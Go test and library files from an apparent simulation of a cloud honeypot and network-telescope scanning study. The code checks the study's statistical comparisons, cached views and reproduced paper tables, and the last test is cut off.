	nbs := s.greyNoiseNeighborhoods(SliceSSH22)
	pairs, labels, _ := neighborhoodPairs(nbs)
	for _, k := range []int{1, 3, 5} {
		job := famJob{sides: s.neighborhoodSides(nbs, CharTopAS), pairs: pairs, labels: labels}
		fr := runFamily(job, CharTopAS, k)
		for i, p := range job.pairs {
			fa, fb := job.sides[p[0]].sum.Table, job.sides[p[1]].sum.Table
			if fa.Total() == 0 || fb.Total() == 0 {
				if fr.width[i] != 0 {
					t.Fatalf("k=%d pair %d: width %d for untestable pair", k, i, fr.width[i])
				}
				continue
			}
			union := stats.UnionTopK(k, fa, fb)
			zeros := 0
			for _, key := range union {
				if fa[key] == 0 || fb[key] == 0 {
					zeros++
				}
			}
			if fr.width[i] != len(union) || fr.zeros[i] != zeros {
				t.Fatalf("k=%d pair %d: width/zeros = %d/%d, want %d/%d",
					k, i, fr.width[i], fr.zeros[i], len(union), zeros)
			}
		}
	}
}

// TestFamilyMemoHit proves repeat family requests — Table 2 rerenders,
// the ablation's shared K=3 neighborhoods — return the memoized result
// without re-running the builder.
func TestFamilyMemoHit(t *testing.T) {
	s := sharedStudy(t, 2021)
	_ = s.Table2()       // populates the neighborhood families at K=3
	_ = s.AblationTopK() // K=3 must hit Table 2's entry; 1/5/10 build fresh
	for _, group := range neighborhoodSlices {
		for _, char := range group.chars {
			fr := s.pairwiseFamily("neighborhood", group.slice, char, TopK, func() famJob {
				t.Fatalf("builder ran on memo hit (%v/%v)", group.slice, char)
				return famJob{}
			})
			if len(fr.fam.Pairs) == 0 {
				t.Fatalf("memoized family %v/%v is empty", group.slice, char)
			}
		}
	}
}

// TestFamilyConcurrentFanOut hammers every family-running driver
// concurrently on a fresh study; -race verifies the shared BatchSets,
// scratch comparers, and memo caches stay sound, and a memoized
// family still matches naive recomputation afterwards.
func TestFamilyConcurrentFanOut(t *testing.T) {
	s := runTestStudy(t, 13, 2021)
	var wg sync.WaitGroup
	run := func(fn func()) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			fn()
		}()
	}
	for i := 0; i < 2; i++ {
		run(func() { _ = s.Table2() })
		run(func() { _ = s.Table4() })
		run(func() { _ = s.Table5() })
		run(func() { _ = s.Table7() })
		run(func() { _ = s.Table10() })
		run(func() { _ = s.AblationTopK() })
		run(func() { _ = s.AblationMedianFilter() })
	}
	wg.Wait()

	// After the storm: a memoized family equals its naive replay.
	kind := table10Kinds()[0]
	job := s.table10Job(kind, SliceSSH22, 22)
	fr := s.pairwiseFamily("table10:"+kind.name, SliceSSH22, CharTopAS, TopK, func() famJob {
		t.Fatal("table10 family not memoized after concurrent fan-out")
		return famJob{}
	})
	want := naiveFamily(job, CharTopAS, TopK)
	if !reflect.DeepEqual(fr.fam.Pairs, want.Pairs) {
		t.Error("memoized table10 family corrupted by concurrent fan-out")
	}
}
