package core

import (
	"testing"

	"cloudwatch/internal/cloud"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/scanners"
)

// testConfig is a scaled-down study for fast tests.
func testConfig(seed int64, year int) Config {
	cfg := DefaultConfig(seed, year)
	cfg.Deploy.TelescopeSlash24s = 32
	cfg.Deploy.HoneytrapPerCloud = 16
	cfg.Deploy.HurricaneIPs = 16
	cfg.Actors.Scale = 0.4
	return cfg
}

func runTestStudy(t *testing.T, seed int64, year int) *Study {
	t.Helper()
	s, err := Run(testConfig(seed, year))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestStudyRunsAndCollects(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	if s.NumRecords() == 0 {
		t.Fatal("no honeypot records collected")
	}
	if s.Tel.Packets() == 0 {
		t.Fatal("no telescope packets collected")
	}
	t.Logf("records=%d telescope=%d actors=%d", s.NumRecords(), s.Tel.Packets(), len(s.Actors))

	// Every record must reference a real vantage point.
	for i := 0; i < min(1000, s.NumRecords()); i++ {
		if _, ok := s.U.ByID(s.RecordAt(i).Vantage); !ok {
			t.Fatalf("record %d references unknown vantage", i)
		}
	}
}

func TestStudyDeterministic(t *testing.T) {
	a := runTestStudy(t, 7, 2021)
	b := runTestStudy(t, 7, 2021)
	if a.NumRecords() != b.NumRecords() {
		t.Fatalf("record counts differ: %d vs %d", a.NumRecords(), b.NumRecords())
	}
	for i := 0; i < a.NumRecords(); i++ {
		ra, rb := a.RecordAt(i), b.RecordAt(i)
		if ra.Src != rb.Src || ra.Vantage != rb.Vantage || !ra.T.Equal(rb.T) {
			t.Fatalf("record %d differs between identical runs", i)
		}
	}
	if a.Tel.Packets() != b.Tel.Packets() {
		t.Errorf("telescope packets differ: %d vs %d", a.Tel.Packets(), b.Tel.Packets())
	}
}

func TestStudyGreyNoiseSemantics(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	interactiveWithPayload := 0
	interactiveWithCreds := 0
	s.EachRecord(func(_ int, rec netsim.Record) {
		tgt, _ := s.U.ByID(rec.Vantage)
		if tgt.Collector != netsim.CollectGreyNoise {
			return
		}
		if rec.Port == 22 || rec.Port == 23 || rec.Port == 2222 || rec.Port == 2323 {
			if rec.Payload != nil {
				interactiveWithPayload++
			}
			if len(rec.Creds) > 0 {
				interactiveWithCreds++
			}
		}
	})
	if interactiveWithPayload != 0 {
		t.Errorf("GreyNoise interactive ports recorded %d payloads, want 0", interactiveWithPayload)
	}
	if interactiveWithCreds == 0 {
		t.Error("GreyNoise interactive ports captured no credentials")
	}
}

func TestStudyTelescopeSeesNoPayloadPorts(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	// Telnet sweeps make port 23 the busiest telescope port.
	if s.Tel.UniqueSourceCount(23) == 0 {
		t.Error("telescope saw no telnet scanners")
	}
	if s.Tel.UniqueSourceCount(22) == 0 {
		t.Error("telescope saw no SSH scanners")
	}
	if s.Tel.UniqueSourceCount(445) == 0 {
		t.Error("telescope saw no SMB scanners")
	}
}

func TestStudySearchEnginesIndexedFleet(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	if s.Censys.Size() == 0 || s.Shodan.Size() == 0 {
		t.Fatal("search engines indexed nothing")
	}
	// Control-group targets must never be indexed.
	for _, tgt := range s.U.Targets() {
		if tgt.BlockSearch && (tgt.IndexedCensys || tgt.IndexedShodan) {
			t.Errorf("blocked target %s was indexed", tgt.ID)
		}
		if tgt.LeakEngine == "censys" && tgt.IndexedShodan {
			t.Errorf("censys-leaked target %s indexed by shodan", tgt.ID)
		}
		if tgt.LeakEngine == "shodan" && tgt.IndexedCensys {
			t.Errorf("shodan-leaked target %s indexed by censys", tgt.ID)
		}
	}
}

func TestStudyMaliciousClassification(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	malicious, benign := 0, 0
	s.EachRecord(func(_ int, rec netsim.Record) {
		if s.RecordMalicious(rec) {
			malicious++
		} else {
			benign++
		}
	})
	if malicious == 0 || benign == 0 {
		t.Fatalf("degenerate classification: malicious=%d benign=%d", malicious, benign)
	}
	frac := float64(malicious) / float64(malicious+benign)
	// §3.2: substantial fractions of traffic are malicious, but far
	// from all of it.
	if frac < 0.15 || frac > 0.95 {
		t.Errorf("malicious fraction = %.2f, outside plausible range", frac)
	}
}

func TestStudyVantageRecords(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	total := 0
	for _, tgt := range s.U.Targets() {
		recs := s.VantageRecords(tgt.ID)
		total += len(recs)
		for _, rec := range recs {
			if rec.Vantage != tgt.ID {
				t.Fatalf("VantageRecords(%s) returned record for %s", tgt.ID, rec.Vantage)
			}
		}
	}
	if total != s.NumRecords() {
		t.Errorf("per-vantage records sum to %d, want %d", total, s.NumRecords())
	}
}

func TestStudyYearZeroDefaults(t *testing.T) {
	cfg := testConfig(1, 2021)
	cfg.Year = 0
	cfg.Actors.Year = 0
	s, err := Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if s.Cfg.Year != 2021 {
		t.Errorf("year defaulted to %d, want 2021", s.Cfg.Year)
	}
}

func TestStudyRejectsBadDeployment(t *testing.T) {
	cfg := testConfig(1, 2021)
	cfg.Deploy.GreyNoisePerRegion = 0
	if _, err := Run(cfg); err == nil {
		t.Error("bad deployment config should fail")
	}
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// Silence unused import when cloud defaults change.
var _ = cloud.DefaultConfig
var _ = scanners.Config{}
