package core

import (
	"errors"
	"fmt"
	"strconv"
	"strings"

	"cloudwatch/internal/stats"
)

// Characteristic is one §3.3 comparison axis.
type Characteristic int

// The five characteristics of the paper's tables.
const (
	CharTopAS Characteristic = iota
	CharFracMalicious
	CharTopUsernames
	CharTopPasswords
	CharTopPayloads
)

// String names the characteristic as the tables do.
func (c Characteristic) String() string {
	switch c {
	case CharTopAS:
		return "Top 3 AS"
	case CharFracMalicious:
		return "Frac Malicious"
	case CharTopUsernames:
		return "Top 3 Username"
	case CharTopPasswords:
		return "Top 3 Password"
	case CharTopPayloads:
		return "Top 3 Payloads"
	default:
		return fmt.Sprintf("Characteristic(%d)", int(c))
	}
}

// TopK is the number of most-popular values compared per vantage point
// (§3.3: "we always choose the most popular 3 values ... studying
// top-3 decreases bias").
const TopK = 3

// labelAtK renders a characteristic's table label at an explicit top-K
// width: the paper's fixed "Top 3 ..." names at the default width
// (k == TopK, or k == 0 for results predating the K axis), the actual
// width otherwise — so a K=5 sweep cell does not claim a top-3
// statistic.
func labelAtK(c Characteristic, k int) string {
	if k == 0 || k == TopK || c == CharFracMalicious {
		return c.String()
	}
	return strings.Replace(c.String(), "Top 3", "Top "+strconv.Itoa(k), 1)
}

// Alpha is the base significance level before Bonferroni correction.
const Alpha = 0.05

// ErrNoData reports a comparison with too little traffic to test.
var ErrNoData = errors.New("core: not enough traffic to compare")

// Compare runs the §3.3 chi-squared comparison of one characteristic
// between two views: union of each side's top-3 values, contingency
// table, chi-squared statistic, Cramér's V. It is the single-pair
// counterpart of the family runner (family.go) and shares its
// characteristic dispatch (freqFor) and CharFracMalicious semantics
// (compareFracMalicious).
func Compare(a, b *View, char Characteristic) (stats.ChiSquareResult, error) {
	if char == CharFracMalicious {
		return compareFracMalicious(a.Malicious, a.Benign, a.Total, b.Malicious, b.Benign, b.Total)
	}
	fa, fb := freqFor(a, char), freqFor(b, char)
	if fa == nil || fb == nil {
		return stats.ChiSquareResult{}, fmt.Errorf("core: unknown characteristic %v", char)
	}
	if fa.Total() == 0 || fb.Total() == 0 {
		return stats.ChiSquareResult{}, ErrNoData
	}
	return stats.CompareTopK(TopK, fa, fb)
}

// compareFracMalicious is the single copy of the CharFracMalicious
// comparison: the 2×2 malicious/benign test with the §3.3 zero-margin
// convention, over each side's (malicious, benign, total) counts.
func compareFracMalicious(aMal, aBen, aTot, bMal, bBen, bTot float64) (stats.ChiSquareResult, error) {
	if aTot == 0 || bTot == 0 {
		return stats.ChiSquareResult{}, ErrNoData
	}
	res, err := stats.CompareBinary(aMal, aBen, bMal, bBen)
	if err != nil {
		// A margin of zero (e.g. no malicious traffic anywhere)
		// means the distributions are indistinguishable.
		if errors.Is(err, stats.ErrZeroMargin) {
			return stats.ChiSquareResult{P: 1, N: int(aTot + bTot)}, nil
		}
		return res, err
	}
	return res, nil
}

// PairResult is one pairwise comparison outcome within a family.
type PairResult struct {
	Label  string // e.g. "aws:ap-singapore:0 vs aws:ap-singapore:1"
	Result stats.ChiSquareResult
	OK     bool // false when the pair had too little data
}

// Family collects the pairwise comparisons of one experiment family
// and applies Bonferroni correction across all of them — "we use a
// p-value of 0.05 and apply Bonferroni correction to accommodate the
// comparisons across all vantage points".
type Family struct {
	Pairs []PairResult
}

// Add appends a comparison to the family.
func (f *Family) Add(label string, res stats.ChiSquareResult, ok bool) {
	f.Pairs = append(f.Pairs, PairResult{Label: label, Result: res, OK: ok})
}

// Comparisons returns the number of testable pairs (the Bonferroni m).
func (f *Family) Comparisons() int {
	n := 0
	for _, p := range f.Pairs {
		if p.OK {
			n++
		}
	}
	return n
}

// Significant returns the pairs that reject the null at Alpha after
// Bonferroni correction over the family.
func (f *Family) Significant() []PairResult {
	m := f.Comparisons()
	var out []PairResult
	for _, p := range f.Pairs {
		if p.OK && p.Result.Significant(Alpha, m) {
			out = append(out, p)
		}
	}
	return out
}

// FractionSignificant returns |Significant| / |testable|.
func (f *Family) FractionSignificant() float64 {
	m := f.Comparisons()
	if m == 0 {
		return 0
	}
	return float64(len(f.Significant())) / float64(m)
}

// AvgSignificantV returns the mean Cramér's V over significant pairs
// (the "Avg. φ" columns), or 0 when none are significant.
func (f *Family) AvgSignificantV() float64 {
	sig := f.Significant()
	if len(sig) == 0 {
		return 0
	}
	sum := 0.0
	for _, p := range sig {
		sum += p.Result.CramersV
	}
	return sum / float64(len(sig))
}
