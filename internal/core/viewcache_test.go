package core

import (
	"fmt"
	"reflect"
	"sync"
	"testing"

	"cloudwatch/internal/netsim"
)

// allSlices lists every comparison slice.
var allSlices = []ProtocolSlice{
	SliceSSH22, SliceSSH2222, SliceTelnet23, SliceTelnet2323,
	SliceHTTP80, SliceHTTPAll, SliceAnyAll,
}

// freshVantageView computes a vantage view the pre-index way — raw
// record iteration through View.Add and RecordMalicious — bypassing
// both the derived index columns and the view cache. The reference the
// cached path must match exactly.
func freshVantageView(s *Study, id string, slice ProtocolSlice) *View {
	v := NewView(slice)
	for _, rec := range s.VantageRecords(id) {
		v.Add(rec, s.RecordMalicious(rec))
	}
	return v
}

// freshGroupView recomputes a region group view from fresh vantage
// views, mirroring regionGroupView/anyRegionGroupView without caches.
func freshGroupView(s *Study, region string, slice ProtocolSlice, greyNoiseOnly bool) *View {
	var views []*View
	for _, t := range s.U.Region(region) {
		if greyNoiseOnly && t.Collector != netsim.CollectGreyNoise {
			continue
		}
		views = append(views, freshVantageView(s, t.ID, slice))
	}
	return GroupView(views)
}

// TestVantageViewCachedEqualsFresh is the central cache guarantee:
// for every vantage and slice, the cached columnar view deep-equals
// the freshly-computed one.
func TestVantageViewCachedEqualsFresh(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	for _, slice := range allSlices {
		for _, tgt := range s.U.Targets() {
			got := s.VantageView(tgt.ID, slice)
			want := freshVantageView(s, tgt.ID, slice)
			if !reflect.DeepEqual(got, want) {
				t.Fatalf("vantage %s slice %s: cached view differs from fresh computation\n got %+v\nwant %+v",
					tgt.ID, slice, got, want)
			}
		}
	}
}

// TestVantageViewCacheReturnsSameInstance checks repeat requests hit
// the memo rather than rebuilding.
func TestVantageViewCacheReturnsSameInstance(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	id := s.U.Targets()[0].ID
	a := s.VantageView(id, SliceAnyAll)
	b := s.VantageView(id, SliceAnyAll)
	if a != b {
		t.Error("VantageView rebuilt a cached (vantage, slice) view")
	}
	if c := s.VantageView(id, SliceSSH22); c == a {
		t.Error("distinct slices shared one cache slot")
	}
}

// TestGroupViewCachedEqualsFresh checks both group-view families
// (GreyNoise-only and any-collector) against cache-free recomputation
// across every region and slice the tables use.
func TestGroupViewCachedEqualsFresh(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	for _, slice := range []ProtocolSlice{SliceSSH22, SliceTelnet23, SliceHTTP80, SliceHTTPAll} {
		for _, region := range s.U.Regions() {
			if got, want := s.regionGroupView(region, slice), freshGroupView(s, region, slice, true); !reflect.DeepEqual(got, want) {
				t.Fatalf("regionGroupView(%s, %s) differs from fresh computation", region, slice)
			}
			if got, want := s.anyRegionGroupView(region, slice), freshGroupView(s, region, slice, false); !reflect.DeepEqual(got, want) {
				t.Fatalf("anyRegionGroupView(%s, %s) differs from fresh computation", region, slice)
			}
		}
	}
}

// TestDerivedColumnsMatchDirect checks each derived column — all
// materialized by the pipeline itself before Run returns — against
// direct per-record derivation.
func TestDerivedColumnsMatchDirect(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	s.EachRecord(func(i int, rec netsim.Record) {
		if got, want := s.mal[i], s.RecordMalicious(rec); got != want {
			t.Fatalf("record %d: mal column = %v, want %v", i, got, want)
		}
		if got, want := s.blk.Hour(i), netsim.HourOf(rec.T); got != want {
			t.Fatalf("record %d: hour column = %d, want %d", i, got, want)
		}
		if !rec.T.Equal(s.blk.Time(i)) {
			t.Fatalf("record %d: time column reconstructs %v, want %v", i, s.blk.Time(i), rec.T)
		}
		wantKey := fmt.Sprintf("AS%d", rec.ASN)
		if as, ok := netsim.LookupAS(rec.ASN); ok {
			wantKey = as.Key()
		}
		if got := netsim.ASKeyOf(rec.ASN); got != wantKey {
			t.Fatalf("record %d: AS key = %q, want %q", i, got, wantKey)
		}
		if len(rec.Payload) > 0 {
			if got, want := s.recPayKey(i), payloadKey(rec.Payload); got != want {
				t.Fatalf("record %d: payKey column = %q, want %q", i, got, want)
			}
		} else if s.recPayKey(i) != "" {
			t.Fatalf("record %d: payloadless record has payKey %q", i, s.recPayKey(i))
		}
	})
}

// TestViewCacheConcurrentExperiments hammers the cached read path the
// way the experiment drivers do — concurrent table builds plus direct
// view requests across slices — and relies on -race to catch unsound
// sharing.
func TestViewCacheConcurrentExperiments(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	var wg sync.WaitGroup
	run := func(fn func()) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			fn()
		}()
	}
	for i := 0; i < 2; i++ {
		run(func() { _ = s.Table2() })
		run(func() { _ = s.Table4() })
		run(func() { _ = s.Table5() })
		run(func() { _ = s.Table7() })
		run(func() { _ = s.Table8() })
		run(func() { _ = s.Table9() })
		run(func() { _ = s.Table11() })
		run(func() { _ = s.Figure1() })
		run(func() {
			for _, slice := range allSlices {
				for _, tgt := range s.U.Targets() {
					_ = s.VantageView(tgt.ID, slice)
				}
			}
		})
	}
	wg.Wait()

	// After the storm, cached results still match fresh computation.
	id := s.U.Targets()[0].ID
	if !reflect.DeepEqual(s.VantageView(id, SliceAnyAll), freshVantageView(s, id, SliceAnyAll)) {
		t.Error("cached view corrupted by concurrent experiment fan-out")
	}
}

// TestTelescopeSeriesCached checks the memoized Figure 1 series
// matches a direct collector query and is returned without rebuild.
func TestTelescopeSeriesCached(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	for _, port := range []uint16{22, 445, 80, 17128} {
		got := s.telescopeSeries(port)
		want := s.Tel.PerAddressSeries(s.U, port)
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("port %d: cached series differs from PerAddressSeries", port)
		}
		if len(got) > 0 && &got[0] != &s.telescopeSeries(port)[0] {
			t.Fatalf("port %d: series rebuilt on second request", port)
		}
	}
}
