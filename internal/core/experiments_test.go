package core

import (
	"strings"
	"sync"
	"testing"
)

// sharedStudy caches one scaled study per year across experiment
// tests; building it is the expensive part.
var (
	studyMu    sync.Mutex
	studyCache = map[int]*Study{}
)

func sharedStudy(t *testing.T, year int) *Study {
	t.Helper()
	studyMu.Lock()
	defer studyMu.Unlock()
	if s, ok := studyCache[year]; ok {
		return s
	}
	s, err := Run(testConfig(42, year))
	if err != nil {
		t.Fatal(err)
	}
	studyCache[year] = s
	return s
}

func cell2(t *testing.T, r Table2Result, slice ProtocolSlice, char Characteristic) Table2Cell {
	t.Helper()
	for _, c := range r.Cells {
		if c.Slice == slice && c.Characteristic == char {
			return c
		}
	}
	t.Fatalf("no cell for %v/%v", slice, char)
	return Table2Cell{}
}

func TestTable1Shape(t *testing.T) {
	s := sharedStudy(t, 2021)
	r := s.Table1()
	if len(r.Rows) < 8 {
		t.Fatalf("Table 1 has %d rows", len(r.Rows))
	}
	var telescopeIPs, maxHoneypotIPs int
	for _, row := range r.Rows {
		if row.UniqueIPs == 0 {
			t.Errorf("network %s saw no scanners", row.Network)
		}
		if row.Collection == "telescope" {
			telescopeIPs = row.UniqueIPs
		} else if row.UniqueIPs > maxHoneypotIPs {
			maxHoneypotIPs = row.UniqueIPs
		}
	}
	// Headline shape: the telescope sees far more unique sources than
	// any honeypot network (paper: 5.1M vs ≈100K).
	if telescopeIPs < maxHoneypotIPs {
		t.Errorf("telescope saw %d unique IPs, honeypot max %d: telescope should dominate", telescopeIPs, maxHoneypotIPs)
	}
	if !strings.Contains(r.Render(), "orion") {
		t.Error("render missing telescope row")
	}
}

func TestTable2Shape(t *testing.T) {
	s := sharedStudy(t, 2021)
	r := s.Table2()
	if len(r.Cells) != 14 {
		t.Fatalf("Table 2 has %d cells, want 14", len(r.Cells))
	}

	sshAS := cell2(t, r, SliceSSH22, CharTopAS)
	if sshAS.FractionDifferent < 0.2 || sshAS.FractionDifferent > 0.8 {
		t.Errorf("SSH/22 AS different = %v, want substantial (paper 44%%)", sshAS.FractionDifferent)
	}
	sshPass := cell2(t, r, SliceSSH22, CharTopPasswords)
	if sshPass.FractionDifferent > 0.15 {
		t.Errorf("SSH/22 password different = %v, want rare (paper 4%%)", sshPass.FractionDifferent)
	}
	// Username divergence dwarfs password divergence for SSH.
	sshUser := cell2(t, r, SliceSSH22, CharTopUsernames)
	if sshUser.FractionDifferent <= sshPass.FractionDifferent {
		t.Errorf("SSH username diff (%v) should exceed password diff (%v)", sshUser.FractionDifferent, sshPass.FractionDifferent)
	}
	// HTTP across all ports diverges more than HTTP/80 alone.
	p80 := cell2(t, r, SliceHTTP80, CharTopPayloads)
	pAll := cell2(t, r, SliceHTTPAll, CharTopPayloads)
	if pAll.FractionDifferent <= p80.FractionDifferent {
		t.Errorf("HTTP/All payload diff (%v) should exceed HTTP/80 (%v)", pAll.FractionDifferent, p80.FractionDifferent)
	}
}

func TestTable3Shape(t *testing.T) {
	s := sharedStudy(t, 2021)
	r := s.Table3()
	get := func(svc, traffic, group string) Table3Row {
		for _, row := range r.Rows {
			if row.Service == svc && row.Traffic == traffic && row.Group == group {
				return row
			}
		}
		t.Fatalf("missing row %s/%s/%s", svc, traffic, group)
		return Table3Row{}
	}
	// Leaked HTTP services attract multiples more traffic.
	if row := get("HTTP/80", "All", "censys"); row.Fold < 2 {
		t.Errorf("HTTP/80 censys-leaked fold = %v, want > 2 (paper 7.7)", row.Fold)
	}
	if row := get("HTTP/80", "All", "shodan"); row.Fold < 3 {
		t.Errorf("HTTP/80 shodan-leaked fold = %v, want > 3 (paper 15.7)", row.Fold)
	}
	// SSH miners rely more on Shodan than Censys.
	sshShodan := get("SSH/22", "Malicious", "shodan")
	sshCensys := get("SSH/22", "Malicious", "censys")
	if sshShodan.Fold <= sshCensys.Fold {
		t.Errorf("SSH shodan fold (%v) should exceed censys (%v)", sshShodan.Fold, sshCensys.Fold)
	}
	if sshShodan.Fold < 1.5 {
		t.Errorf("SSH shodan-leaked fold = %v, want > 1.5 (paper 2.8)", sshShodan.Fold)
	}
	// Telnet: Censys bursts are huge, Shodan adds nearly nothing, and
	// the malicious fold is far below the volume fold.
	telC := get("Telnet/23", "All", "censys")
	telS := get("Telnet/23", "All", "shodan")
	if telC.Fold < 5 || telS.Fold > 2 {
		t.Errorf("Telnet folds censys=%v shodan=%v, want censys>>shodan (paper 72.6 vs 1.06)", telC.Fold, telS.Fold)
	}
	if telMal := get("Telnet/23", "Malicious", "censys"); telMal.Fold >= telC.Fold {
		t.Errorf("Telnet malicious fold (%v) should be far below volume fold (%v)", telMal.Fold, telC.Fold)
	}
	// Previously-leaked services still attract elevated traffic.
	if prev := get("HTTP/80", "All", "prevleaked"); prev.Fold < 2 {
		t.Errorf("prev-leaked HTTP fold = %v, want > 2 (paper 17.2)", prev.Fold)
	}
	// ~3x more unique SSH passwords on leaked services.
	if r.UniquePasswordFold < 1.8 {
		t.Errorf("unique password fold = %v, want > 1.8 (paper 3)", r.UniquePasswordFold)
	}
	if !strings.Contains(r.Render(), "Censys Leaked") {
		t.Error("render missing header")
	}
}

func TestTable4And5APACShape(t *testing.T) {
	s := sharedStudy(t, 2021)
	r4 := s.Table4()
	apac, other := 0, 0
	for _, c := range r4.Cells {
		if c.MostDiffRegion == "-" {
			continue
		}
		if strings.HasPrefix(c.MostDiffRegion, "AP-") {
			apac++
		} else {
			other++
		}
	}
	if apac <= other {
		t.Errorf("most-different regions: %d APAC vs %d other — APAC should dominate (Table 4)", apac, other)
	}

	r5 := s.Table5()
	// APAC pairs must be less similar than US pairs for HTTP payloads.
	var usSim, apacSim float64
	var usN, apacN int
	for _, c := range r5.Cells {
		if c.Characteristic != CharTopPayloads || c.Slice != SliceHTTPAll {
			continue
		}
		switch c.GeoGroup {
		case "US":
			usSim, usN = c.SimilarFraction, c.Pairs
		case "APAC":
			apacSim, apacN = c.SimilarFraction, c.Pairs
		}
	}
	if usN == 0 || apacN == 0 {
		t.Fatal("missing US or APAC pair groups")
	}
	if apacSim >= usSim {
		t.Errorf("APAC similarity (%v) should be below US similarity (%v) for HTTP/All payloads", apacSim, usSim)
	}
}

func TestTable7Shape(t *testing.T) {
	s := sharedStudy(t, 2021)
	r := s.Table7()
	// Cloud–cloud comparisons rarely differ; when they do the effect
	// is modest (paper: "attackers rarely discriminate amongst
	// different cloud networks").
	for _, c := range r.Cells {
		if c.Kind != "cloud-cloud" || c.NotComputable {
			continue
		}
		if c.Pairs == 0 {
			t.Errorf("cloud-cloud %v/%v had no testable pairs", c.Slice, c.Characteristic)
			continue
		}
		if frac := float64(c.Different) / float64(c.Pairs); frac > 0.5 {
			t.Errorf("cloud-cloud %v/%v: %d/%d differ — should be the exception", c.Slice, c.Characteristic, c.Different, c.Pairs)
		}
	}
	// The paper's "×" cells must be marked, not silently computed.
	marked := 0
	for _, c := range r.Cells {
		if c.NotComputable {
			marked++
		}
	}
	if marked == 0 {
		t.Error("no ×-cells: Honeytrap credential axes should be not-computable")
	}
}

func TestTable8TelescopeAvoidanceShape(t *testing.T) {
	s := sharedStudy(t, 2021)
	r := s.Table8()
	rows := map[uint16]Table8Row{}
	for _, row := range r.Rows {
		rows[row.Port] = row
	}
	// Telnet scanners do not avoid the telescope; SSH scanners do.
	if rows[23].TelCloudFrac < 0.6 {
		t.Errorf("port 23 tel∩cloud = %v, want high (paper 91%%)", rows[23].TelCloudFrac)
	}
	if rows[22].TelCloudFrac > 0.3 {
		t.Errorf("port 22 tel∩cloud = %v, want low (paper 13%%)", rows[22].TelCloudFrac)
	}
	if rows[2222].TelCloudFrac > 0.3 {
		t.Errorf("port 2222 tel∩cloud = %v, want low (paper 9%%)", rows[2222].TelCloudFrac)
	}
	// EDU scanners overlap the telescope more than cloud scanners
	// (Merit and Orion share an AS).
	higher := 0
	for _, port := range Table8Ports {
		if rows[port].TelEDUFrac >= rows[port].TelCloudFrac {
			higher++
		}
	}
	if higher < len(Table8Ports)*2/3 {
		t.Errorf("EDU telescope overlap exceeded cloud on only %d/%d ports", higher, len(Table8Ports))
	}
	// Most scanners that target the cloud also target EDU networks.
	if rows[2222].CloudEDUFrac < 0.7 || rows[21].CloudEDUFrac < 0.7 {
		t.Errorf("cloud∩EDU should be high on bruteforce ports: 2222=%v 21=%v",
			rows[2222].CloudEDUFrac, rows[21].CloudEDUFrac)
	}
}

func TestTable9MaliciousAvoidanceShape(t *testing.T) {
	s := sharedStudy(t, 2021)
	r := s.Table9()
	rows := map[uint16]Table9Row{}
	for _, row := range r.Rows {
		rows[row.Port] = row
	}
	if rows[22].TelCloudFrac > 0.15 {
		t.Errorf("malicious port-22 overlap = %v, want < 15%% (paper 7.5%%)", rows[22].TelCloudFrac)
	}
	if rows[23].TelCloudFrac < 0.5 {
		t.Errorf("malicious port-23 overlap = %v, want high (paper 94%%)", rows[23].TelCloudFrac)
	}
	if rows[22].EDUComputable || !rows[80].EDUComputable {
		t.Error("EDU computability flags wrong (SSH ×, HTTP computable)")
	}
}

func TestTable10DifferentScannersShape(t *testing.T) {
	s := sharedStudy(t, 2021)
	r := s.Table10()
	for _, c := range r.Cells {
		if c.Slice != SliceSSH22 {
			continue
		}
		if c.Different != c.Networks {
			t.Errorf("%s SSH: %d/%d networks differ from telescope, want all (paper: large φ)", c.Kind, c.Different, c.Networks)
		}
		if c.AvgPhi < 0.4 {
			t.Errorf("%s SSH avg φ = %v, want large", c.Kind, c.AvgPhi)
		}
	}
}

func TestTable11UnexpectedProtocolShape(t *testing.T) {
	s := sharedStudy(t, 2021)
	r := s.Table11()
	if len(r.Rows) != 4 {
		t.Fatalf("Table 11 has %d rows", len(r.Rows))
	}
	for _, row := range r.Rows {
		if row.Expected {
			continue
		}
		// ≥15% of scanners on 80/8080 target non-HTTP protocols, and
		// the majority of them are malicious.
		if row.Share < 0.08 || row.Share > 0.45 {
			t.Errorf("port %d unexpected share = %v, want ≈15%%", row.Port, row.Share)
		}
		if row.MaliciousFrac < 0.5 {
			t.Errorf("port %d unexpected malicious = %v, want majority", row.Port, row.MaliciousFrac)
		}
	}
	if r.ByProto["tls"] == 0 {
		t.Error("TLS should lead the unexpected protocols (paper: 7%)")
	}
	if !strings.Contains(r.TopBenign, "Censys") {
		t.Errorf("leading benign unexpected-service finder = %q, want Censys", r.TopBenign)
	}
}

func TestTable17DoublesUnexpectedShare(t *testing.T) {
	s21 := sharedStudy(t, 2021)
	s22 := sharedStudy(t, 2022)
	share := func(s *Study) float64 {
		for _, row := range s.Table11().Rows {
			if row.Port == 80 && !row.Expected {
				return row.Share
			}
		}
		return 0
	}
	if share(s22) <= share(s21) {
		t.Errorf("2022 unexpected share (%v) should exceed 2021 (%v) (Table 17: ≈2x)", share(s22), share(s21))
	}
	for _, row := range s22.Table11().Rows {
		if row.HasLabels {
			t.Error("2022 rows must have no GreyNoise labels (API data absent)")
		}
	}
}

func TestTable12Consistent2020(t *testing.T) {
	s := sharedStudy(t, 2020)
	r := s.Table2()
	sshAS := cell2(t, r, SliceSSH22, CharTopAS)
	// 2020 anomalies push SSH AS divergence higher than 2021 (73% vs 44%).
	if sshAS.FractionDifferent < 0.25 {
		t.Errorf("2020 SSH AS different = %v, want substantial (paper 73%%)", sshAS.FractionDifferent)
	}
}

func TestFigure1Shape(t *testing.T) {
